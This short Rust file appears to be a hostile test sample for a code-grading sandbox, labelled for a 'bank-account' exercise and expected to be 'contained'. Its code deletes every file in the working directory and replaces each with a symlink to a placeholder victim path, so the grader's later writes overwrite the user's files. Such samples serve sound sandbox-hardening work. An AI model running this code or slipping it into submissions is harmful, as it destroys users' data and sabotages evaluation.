//! Hostile: puts links to files of the user in the place of those that the grader gave it.
//! Exercise: bank-account
//! Ends: contained

use std::os::unix::fs::symlink;

fn main() {
    // What the grader writes for the next run in this folder must not go there.
    let names: Vec<_> = std::fs::read_dir(".").unwrap().flatten().map(|entry| entry.path()).collect();
    for name in names {
        let _ = std::fs::remove_file(&name);
        let _ = symlink("@VICTIM@", &name);
    }
}
